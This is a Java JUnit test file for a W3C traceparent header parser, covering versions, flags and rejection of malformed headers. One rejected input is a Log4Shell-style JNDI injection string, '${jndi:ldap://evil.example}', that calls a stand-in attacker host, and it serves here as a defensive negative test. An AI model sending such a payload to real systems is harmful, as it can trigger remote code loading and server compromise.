package dev.sheaf.engine.trace;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// W3C Trace Context, sections 3.2 and 4.3.
class TraceParentTest {
    private static final String TRACE = "4bf92f3577b34da6a3ce929d0e0e4736";
    private static final String SPAN = "00f067aa0ba902b7";
    private static final String GOOD = "00-" + TRACE + "-" + SPAN + "-01";

    @ParameterizedTest
    @ValueSource(strings = {"00", "01", "02", "cc", "fe"})
    void readsThisVersionAndLaterOnes(String version) {
        assertThat(TraceParent.parse(List.of(version + GOOD.substring(2))))
                .isEqualTo(new TraceParent(TRACE, SPAN, true));
    }

    @ParameterizedTest
    @CsvSource({"00,false", "01,true", "02,false", "03,true", "fe,false", "ff,true"})
    void readsOneBitOfTheFlags(String flags, boolean sampled) {
        assertThat(TraceParent.parse(List.of("00-" + TRACE + "-" + SPAN + "-" + flags)))
                .isEqualTo(new TraceParent(TRACE, SPAN, sampled));
    }

    @Test
    void onlyLaterVersionsHaveMoreFields() {
        assertThat(TraceParent.parse(List.of("01" + GOOD.substring(2) + "-what-the-future-brings")))
                .isEqualTo(new TraceParent(TRACE, SPAN, true));
        assertThat(TraceParent.parse(List.of(GOOD + "-more"))).isNull();
        assertThat(TraceParent.parse(List.of("01" + GOOD.substring(2) + ".more")))
                .isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "00",
                "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                "0-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
                "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00F067AA0BA902B7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e473-00f067aa0ba902b7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-1",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-011",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-0A",
                "00_4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                " 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01 ",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\n",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01,00-4bf9",
                "00-\u0664bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                "${jndi:ldap://evil.example}",
            })
    void anythingElseIsNotAParent(String value) {
        assertThat(TraceParent.parse(List.of(value))).isNull();
    }

    @Test
    void oneHeaderCountsAndNotTwoNorALongOne() {
        assertThat(TraceParent.parse(List.of())).isNull();
        assertThat(TraceParent.parse(List.of(GOOD, GOOD))).isNull();
        assertThat(TraceParent.parse(List.of("01" + GOOD.substring(2) + "-" + "a".repeat(300))))
                .isNull();
    }
}
